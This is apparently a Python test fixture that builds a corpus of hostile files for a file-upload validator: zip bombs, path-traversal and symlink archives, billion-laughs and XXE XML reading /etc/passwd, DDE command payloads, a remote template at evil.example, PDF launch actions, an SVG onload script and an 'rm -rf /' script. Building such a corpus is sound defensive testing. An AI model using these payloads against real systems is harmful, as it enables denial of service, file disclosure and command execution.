"""A corpus of hostile files, made anew for each run: name, bytes, and what must become of it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from PIL import Image

REFUSED = ""
_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><l>&j;</l>"
)
_OUTSIDE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'


@dataclass(frozen=True, slots=True)
class Hostile:
    """A hostile file; ``risk``: the caution that it must be kept with, REFUSED where it must not be kept."""

    name: str
    make: Callable[[], bytes]
    risk: str = REFUSED


def zipped(**members: str | bytes) -> bytes:
    return archive([(name.replace("__", "/"), content) for name, content in members.items()])


def archive(members: list[tuple[str, str | bytes]]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members:
            file.writestr(name, content)
    return target.getvalue()


def office(kind: str, *parts: tuple[str, str | bytes]) -> bytes:
    main = {"word": "word/document.xml", "xl": "xl/workbook.xml"}[kind]
    return archive([("[Content_Types].xml", _TYPES), (main, "<main/>"), *parts])


def bomb(name: str = "big.txt", mebibytes: int = 60) -> bytes:
    return archive([(name, bytes(mebibytes << 20))])


def nested_bomb() -> bytes:
    inner = bomb(mebibytes=5)
    return archive([(f"{number}.zip", inner) for number in range(20)])


def lying_sizes() -> bytes:
    """Return an archive whose directory says 10 bytes where 20 MB come out."""
    real = archive([("xl/workbook.xml", bytes(20 << 20)), ("[Content_Types].xml", _TYPES)])
    return real.replace(struct.pack("<I", 20 << 20), struct.pack("<I", 10))


def symlink() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as file:
        entry = zipfile.ZipInfo("link")
        entry.external_attr = 0o120777 << 16
        file.writestr(entry, "/etc/passwd")
    return target.getvalue()


def encrypted_zip() -> bytes:
    made = bytearray(zipped(a="secret"))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        made[made.index(signature) + offset] |= 1
    return bytes(made)


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def gigapixel() -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 40_000, 40_000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(1 << 20))) + chunk(b"IEND", b"")


def picture(kind: str, **options: object) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (60, 40), (120, 30, 20)).save(target, kind, **options)
    return target.getvalue()


def with_place() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Maker of Phones"
    exif.get_ifd(0x8825)[1] = "N"
    return picture("JPEG", exif=exif)


def frames() -> bytes:
    target = io.BytesIO()
    pictures = [Image.new("RGB", (2, 2), (number % 256, number // 256, 0)) for number in range(400)]
    pictures[0].save(target, "GIF", save_all=True, append_images=pictures[1:], duration=1)
    return target.getvalue()


def pdf(script: str = "", password: str = "", attach: bool = False) -> bytes:
    import pikepdf

    target = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        if script:
            action = pikepdf.Dictionary(S=pikepdf.Name(f"/{script}"), JS="app.alert(1)", F="cmd.exe")
            made.Root.OpenAction = made.make_indirect(action)
        if attach:
            made.attachments["virus.exe"] = b"MZ"
        made.save(target, encryption=pikepdf.Encryption(owner=password, user=password) if password else False)
    return target.getvalue()


def ole(*marks: str, size: int = 4096) -> bytes:
    made = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"".join(mark.encode("utf-16-le") for mark in marks)
    return made.ljust(size, b"\0")


def relations(kind: str, target: str) -> str:
    one = f'<Relationship Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{one}</Relationships>"


def deep_xml() -> bytes:
    return b"<?xml version='1.0'?>" + b"<a>" * 200_000


_SHEET = "<worksheet><sheetData><row><c><f>{}</f></c></row></sheetData></worksheet>"
_FIELD = "<w:document><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:document>"
_REMOTE = relations("attachedTemplate", "http://evil.example/t.dotm")

CORPUS: list[Hostile] = [
    Hostile("炸弹.zip", bomb),
    Hostile("炸弹.xlsx", lambda: office("xl", ("xl/worksheets/sheet1.xml", bytes(60 << 20)))),
    Hostile("套娃.zip", nested_bomb, "未检查里层"),
    Hostile("谎报.xlsx", lying_sizes),
    Hostile("太多.zip", lambda: archive([(f"{number}", b"") for number in range(10_001)])),
    Hostile("越界.zip", lambda: archive([("../../etc/cron.d/x", "x")])),
    Hostile("越界2.zip", lambda: archive([("..\\..\\x.txt", "x")])),
    Hostile("绝对.zip", lambda: archive([("/etc/passwd", "x")])),
    Hostile("盘符.zip", lambda: archive([("C:/x.txt", "x")])),
    Hostile("软链.zip", symlink),
    Hostile("同名.zip", lambda: archive([("A.txt", "x"), ("a.txt", "y")])),
    Hostile("加密.zip", encrypted_zip),
    Hostile("程序.zip", lambda: archive([("发票.pdf.exe", "MZ")])),
    Hostile("截断.zip", lambda: zipped(a="x" * 1000)[:-30]),
    Hostile("笑.xml", _LAUGHS.encode),
    Hostile("外部实体.xml", _OUTSIDE.encode),
    Hostile("太深.xml", deep_xml),
    Hostile("笑.docx", lambda: office("word", ("word/styles.xml", _LAUGHS))),
    Hostile("笑16.docx", lambda: office("word", ("word/styles.xml", _LAUGHS.encode("utf-16")))),
    Hostile(
        "外链.xlsx", lambda: office("xl", ("xl/externalLinks/_rels/l.rels", relations("x", "//evil/s"))), "含外部链接"
    ),
    Hostile("远程模板.docx", lambda: office("word", ("word/_rels/settings.xml.rels", _REMOTE))),
    Hostile("DDE.xlsx", lambda: office("xl", ("xl/worksheets/sheet1.xml", _SHEET.format("cmd|'/c calc'!A0")))),
    Hostile("DDE链.xlsx", lambda: office("xl", ("xl/externalLinks/l.xml", "<externalLink><ddeLink/></externalLink>"))),
    Hostile("DDE.docx", lambda: office("word", ("word/footer1.xml", _FIELD))),
    Hostile("宏.xlsm", lambda: office("xl", ("xl/vbaProject.bin", b"\0")), "含宏"),
    Hostile("宏表.xlsm", lambda: office("xl", ("xl/macrosheets/sheet1.xml", "<x/>")), "含宏"),
    Hostile("嵌入.docx", lambda: office("word", ("word/embeddings/oleObject1.bin", b"\0")), "嵌有其他文件"),
    Hostile("宏.doc", lambda: ole("Macros"), "含宏"),
    Hostile("加密.xlsx", lambda: ole("EncryptedPackage")),
    Hostile("短.doc", lambda: ole(size=600)),
    Hostile("十亿像素.png", gigapixel),
    Hostile("截断.jpg", lambda: picture("JPEG")[:300]),
    Hostile("空心.png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(100)),
    Hostile("四百帧.gif", frames),
    Hostile("位置.jpg", with_place, "拍摄位置"),
    Hostile("图加包.jpg", lambda: picture("JPEG") + zipped(a="x"), "图片后面"),
    Hostile("是网页.jpg", lambda: b"<html><script>alert(1)</script></html>"),
    Hostile("图.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    Hostile("是程序.pdf", lambda: b"MZ" + bytes(100)),
    Hostile("脚本.txt", lambda: b"#!/bin/sh\nrm -rf /"),
    Hostile("是网页.txt", lambda: "<!DOCTYPE HTML><body>".encode("utf-16")),
    Hostile("加密.pdf", partial(pdf, password="x")),  # noqa: S106 (a file with a password)
    Hostile("启动.pdf", partial(pdf, script="Launch")),
    Hostile("脚本.pdf", partial(pdf, script="JavaScript"), "含脚本"),
    Hostile("附件.pdf", partial(pdf, attach=True), "附有其他文件"),
    Hostile("截断.pdf", lambda: pdf()[:200]),
    Hostile("图.pdf", lambda: picture("PNG")),
    Hostile("空.pdf", lambda: b""),
    Hostile("乱码.txt", lambda: bytes(range(1, 32)) * 50),
    Hostile("包.rar", lambda: b"Rar!\x1a\x07\x00" + bytes(50)),
]
